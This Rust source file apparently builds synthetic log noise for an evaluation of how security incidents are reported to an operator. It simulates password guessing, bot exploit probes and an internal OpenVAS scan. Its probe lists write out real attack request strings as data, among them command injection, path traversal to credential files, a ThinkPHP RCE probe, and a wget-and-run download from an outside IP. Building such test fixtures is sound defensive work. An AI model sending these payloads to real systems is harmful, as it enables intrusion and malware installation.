//! The internet's background noise on the company's exposed services, and the company's own
//! weekly vulnerability scan. These are real attacks (or an authorised scan), not the scenario:
//! every record is tagged with its [`crate::Episode`] (one source on one day) so an evaluation
//! can check what the operator is told about them.
//!
//! What an operator should be told (the policy the fidelity harness checks): at most one row per
//! episode, never above level `low` for guessing and probes that all failed (SSH, VPN, mail
//! passwords that never worked; exploit probes answered 404), and nothing about the authorised
//! scanner beyond what its network is configured to be.

use chrono::Duration;

use crate::background::{access, at, syslog, vpn};
use crate::{Builder, LogFile};

/// A public address of the internet's noise (outside the MaxMind test ranges the scenarios use).
fn noise_ip(b: &mut Builder) -> String {
    format!(
        "{}.{}.{}.{}",
        *b.rng.pick(&[45u64, 61, 103, 134, 141, 159, 164, 193, 209]),
        b.rng.range(1, 255),
        b.rng.range(1, 255),
        b.rng.range(1, 255)
    )
}

const GUESSED_USERS: &[&str] = &[
    "admin",
    "root",
    "test",
    "user",
    "guest",
    "oracle",
    "ubuntu",
    "support",
    "vpn",
    "fortinet",
    "administrator",
    "info",
    "postgres",
    "git",
];

const PROBES: &[&str] = &[
    "/.env",
    "/.git/config",
    "/wp-login.php",
    "/xmlrpc.php",
    "/phpmyadmin/index.php",
    "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php",
    "/cgi-bin/luci/;stok=/locale?form=country&operation=write&country=$(id>/tmp/x)",
    "/remote/fgt_lang?lang=/../../../..//////////dev/cmdb/sslvpn_websession",
    "/dana-na/../dana/html5acc/guacamole/../../../../../../etc/passwd?/dana/html5/acc/guacamole/",
    "/?XDEBUG_SESSION_START=phpstorm",
    "/shell?cd+/tmp;rm+-rf+*;wget+http://45.9.148.3/jaws;sh+/tmp/jaws",
    "/boaform/admin/formLogin?username=admin&psd=admin",
    "/owa/auth/x.js",
    "/autodiscover/autodiscover.json?@zdi/Powershell",
    "/actuator/gateway/routes",
    "/solr/admin/info/system?wt=json",
    "/index.php?s=/Index/\\think\\app/invokefunction&function=call_user_func_array&vars[0]=md5&vars[1][]=HelloThinkPHP",
    "/cgi-bin/.%2e/.%2e/.%2e/.%2e/bin/sh",
    "/HNAP1/",
    "/manager/html",
];

const BOT_UAS: &[&str] = &[
    "Mozilla/5.0 zgrab/0.x",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/81.0.4044.129 Safari/537.36",
    "python-requests/2.31.0",
    "Go-http-client/1.1",
    "curl/7.88.1",
    "Mozilla/5.0 (compatible; CensysInspect/1.1; +https://about.censys.io/)",
];

/// One day of the internet's noise on SSH, the VPN, the mail server and the web server.
pub(crate) fn internet(b: &mut Builder, day: u32) {
    // SSH password guessing against the web server: a couple of sources a day, never right.
    for _ in 0..b.rng.range(1, 4) {
        let ip = noise_ip(b);
        let ep = b.episode("ssh-guessing", &ip, day, false);
        let mut t = at(b, day, (0, 24));
        for _ in 0..b.rng.range(4, 40) {
            t += Duration::seconds(b.rng.range(1, 20) as i64);
            let user = *b.rng.pick(GUESSED_USERS);
            let pid = b.next_pid();
            let port = b.rng.range(30000, 65000);
            let msg = if user == "root" {
                format!("Failed password for root from {ip} port {port} ssh2")
            } else {
                format!("Failed password for invalid user {user} from {ip} port {port} ssh2")
            };
            if user != "root" {
                let line = syslog(
                    t,
                    "web01",
                    "sshd",
                    pid,
                    &format!("Invalid user {user} from {ip} port {port}"),
                );
                b.noisy(ep, t, LogFile::AuthLog, line);
            }
            let line = syslog(t, "web01", "sshd", pid, &msg);
            b.noisy(ep, t, LogFile::AuthLog, line);
        }
    }
    // VPN password guessing with the usual names, most days.
    if b.rng.chance(0.7) {
        let ip = noise_ip(b);
        let ep = b.episode("vpn-guessing", &ip, day, false);
        let mut t = at(b, day, (0, 24));
        for _ in 0..b.rng.range(3, 25) {
            t += Duration::seconds(b.rng.range(2, 60) as i64);
            let user = *b.rng.pick(GUESSED_USERS);
            let pid = b.next_pid();
            let fmt = b.vpn_format();
            b.noisy(ep, t, LogFile::VpnLog, vpn(fmt, t, pid, user, &ip, false));
        }
    }
    // SMTP AUTH guessing on the mail server.
    if b.rng.chance(0.5) {
        let ip = noise_ip(b);
        let ep = b.episode("mail-guessing", &ip, day, false);
        let mut t = at(b, day, (0, 24));
        for _ in 0..b.rng.range(5, 30) {
            t += Duration::seconds(b.rng.range(3, 30) as i64);
            let pid = b.next_pid();
            let line = syslog(
                t,
                "mx01",
                "postfix/smtpd",
                pid,
                &format!("warning: unknown[{ip}]: SASL LOGIN authentication failed: UGFzc3dvcmQ6"),
            );
            b.noisy(ep, t, LogFile::MailLog, line);
        }
    }
    // Bots probing the web server for known exploits; everything answers 404.
    for _ in 0..b.rng.range(1, 4) {
        let ip = noise_ip(b);
        let ep = b.episode("exploit-probe", &ip, day, false);
        let ua = *b.rng.pick(BOT_UAS);
        let mut t = at(b, day, (0, 24));
        for _ in 0..b.rng.range(2, 15) {
            t += Duration::seconds(b.rng.range(1, 5) as i64);
            let url = *b.rng.pick(PROBES);
            let method = if url.contains("formLogin") {
                "POST"
            } else {
                "GET"
            };
            let line = access(t, &ip, "-", method, url, 404, 196, ua);
            b.noisy(ep, t, LogFile::AccessLog, line);
        }
    }
}

/// The company's own vulnerability scanner (10.0.10.50, OpenVAS) scans the web server every
/// Sunday night: hundreds of requests with attack payloads, from an internal address.
pub(crate) fn company_scanner(b: &mut Builder, day: u32) {
    if b.day_start(day).format("%u").to_string() != "7" {
        return;
    }
    let ip = "10.0.10.50";
    let ep = b.episode("internal-vuln-scanner", ip, day, true);
    let ua = "Mozilla/5.0 [en] (X11, U; OpenVAS-VT 22.4.1)";
    let mut t = b.day_start(day) + Duration::hours(15);
    let payloads = [
        "/?id=1%27%20OR%20%271%27=%271",
        "/search?q=%3Cscript%3Ealert(1)%3C/script%3E",
        "/../../../../etc/passwd",
        "/index.php?page=../../../../etc/passwd",
        "/cgi-bin/test-cgi",
        "/products?id=1%20UNION%20SELECT%20NULL,NULL--",
    ];
    for i in 0..b.rng.range(150, 300) {
        t += Duration::milliseconds(b.rng.range(100, 900) as i64);
        let url = if i % 3 == 0 {
            (*b.rng.pick(&payloads)).to_owned()
        } else {
            (*b.rng.pick(PROBES)).to_owned()
        };
        let line = access(t, ip, "-", "GET", &url, 404, 196, ua);
        b.noisy(ep, t, LogFile::AccessLog, line);
    }
}
